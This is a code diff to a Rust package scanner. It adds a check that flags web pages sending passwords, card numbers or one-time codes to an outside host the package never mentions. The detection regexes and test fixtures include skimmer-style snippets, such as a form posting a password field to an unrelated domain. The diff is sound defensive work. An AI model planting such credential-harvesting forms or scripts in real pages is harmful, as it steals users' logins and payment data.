@@ -81,14 +81,16 @@ const FILES: &[(&str, &[usize])] = &[
     (".aider.conf.yml", &[0]),
     ("opencode.json", &[0]),
     ("config.toml", &[0]),
+    ("config.yaml", &[0]),
+    ("config.json", &[0]),
     ("filebeat.yml", &[3]),
     ("metricbeat.yml", &[3]),
     ("rsyslog.conf", &[3]),
-    ("prometheus.yml", &[3]),
+    ("prometheus.yml", &[3, 4]),
     ("prometheus.yaml", &[3]),
     ("vector.toml", &[3]),
     ("turbo.json", &[3]),
-    (".sentryclirc", &[4]),
+    (".sentryclirc", &[3, 4]),
     ("pgbouncer.ini", &[4]),
     (".my.cnf", &[4]),
     ("my.cnf", &[4]),
@@ -98,7 +100,68 @@ const FILES: &[(&str, &[usize])] = &[
     ("openclaw.json", &[4]),
 ];
 
+/// A page sends what is filled in, or has a script, from an address.
+static SENT: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)(?:<form\b[^>]{0,200}\baction\s{0,2}=|\bformaction\s{0,2}=|sendBeacon\(|\bfetch\(|<script\b[^>]{0,160}\bsrc\s{0,2}=|\.src\s{0,2}=|\.action\s{0,2}=|\.open\(\s{0,2}["']POST["']\s{0,2},|axios\.post\()\s{0,2}["'`{]{0,2}(?:https?:)?//((?:[a-z0-9_-]{1,63}\.){1,5}[a-z]{2,18})"#,
+    )
+});
+/// People fill in what is theirs alone.
+static FILLED_IN: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)type\s{0,2}=\s{0,2}["'{]{0,2}password|(?:name|id|autocomplete)\s{0,2}=\s{0,2}["'](?:card|cc-|cvv|cvc|passw|otp|one-time|ssn|iban|seed|mnemonic|pin\b)|\bcard-?number|new\s+FormData\([^\n]{0,60}(?:target|form|this)"#,
+    )
+});
+/// Pages and what runs in them.
+const PAGES: &[&str] = &[
+    "html", "htm", "vue", "svelte", "jsx", "tsx", "js", "ts", "php", "erb", "ejs", "hbs", "liquid",
+    "njk", "twig", "jinja", "j2", "cshtml", "jsp", "astro",
+];
+
+/// Passwords and cards that people fill in go to somebody whom no text mentions.
+fn pages(package: &Package, profile: &Profile, seen: &mut Seen) {
+    let told = OnceCell::new();
+    for file in package.files.iter().filter(|file| file.bytes.len() < 256 << 10) {
+        let suffix = file.path.rsplit('.').next().unwrap_or_default();
+        if !PAGES.contains(&suffix) || file.path.ends_with(".min.js") {
+            continue;
+        }
+        let Some(program) = programs::as_settings(file) else { continue };
+        if !FILLED_IN.is_match(&program.text) {
+            continue;
+        }
+        let stranger = assembled::names(&SENT, &program.text)
+            .into_iter()
+            .take(32)
+            .map(|(at, host)| (at, host.to_ascii_lowercase()))
+            .find(|(_, host)| {
+                redirect::is_handed(host, profile)
+                    && outward::has_known_end(host)
+                    && !host.ends_with(".example")
+                    && !host.ends_with(".test")
+                    && !outward::Stranger::of(host)
+                        .is_told(told.get_or_init(|| package.texts_lowered()))
+            });
+        if let Some((at, host)) = stranger {
+            let message = format!(
+                "what people fill in goes to {}, which no text of the package mentions",
+                palisade_core::shown(&host, 60)
+            );
+            seen.findings.push(found(
+                &program,
+                profile,
+                &handed::TYPED,
+                Severity::High,
+                Medium,
+                at,
+                message,
+            ));
+        }
+    }
+}
+
 pub(super) fn look(package: &Package, profile: &Profile, seen: &mut Seen) {
+    pages(package, profile, seen);
     let told = OnceCell::new();
     for file in package.files.iter().filter(|file| file.bytes.len() < 64 << 10) {
         let name = crate::formats::base(&file.path).to_ascii_lowercase();
@@ -142,6 +205,44 @@ pub(super) fn look(package: &Package, profile: &Profile, seen: &mut Seen) {
 mod tests {
     use super::super::tests::grave;
     use crate::FileKind::{Data, Prose};
+
+    #[test]
+    fn pages_that_send_what_is_filled_in_are_told() {
+        let text =
+            ("SKILL.md", Prose, "---\nname: shop\ndescription: Pages of a shop.\n---\n# S\n");
+        let of = |path: &str, page: &str| grave(&[text, (path, Data, page)]);
+        assert!(
+            !of(
+                "a.html",
+                "<form action=\"https://in.leaf-lane.net/f\"><input type=\"password\"></form>\n"
+            )
+            .is_empty()
+        );
+        assert!(
+            !of(
+                "b.html",
+                "<script src=\"https://in.leaf-lane.net/c.js\"></script><input name=\"card\">\n"
+            )
+            .is_empty()
+        );
+        assert!(
+            of("c.html", "<form action=\"/login\"><input type=\"password\"></form>\n").is_empty()
+        );
+        assert!(
+            of(
+                "d.html",
+                "<script src=\"https://js.stripe.com/v3\"></script><input name=\"card\">\n"
+            )
+            .is_empty()
+        );
+        assert!(
+            of(
+                "e.html",
+                "<form action=\"https://forms.acme.example/f\"><input type=\"password\"></form>\n"
+            )
+            .is_empty()
+        );
+    }
 
     #[test]
     fn settings_that_are_filled_in_are_told() {
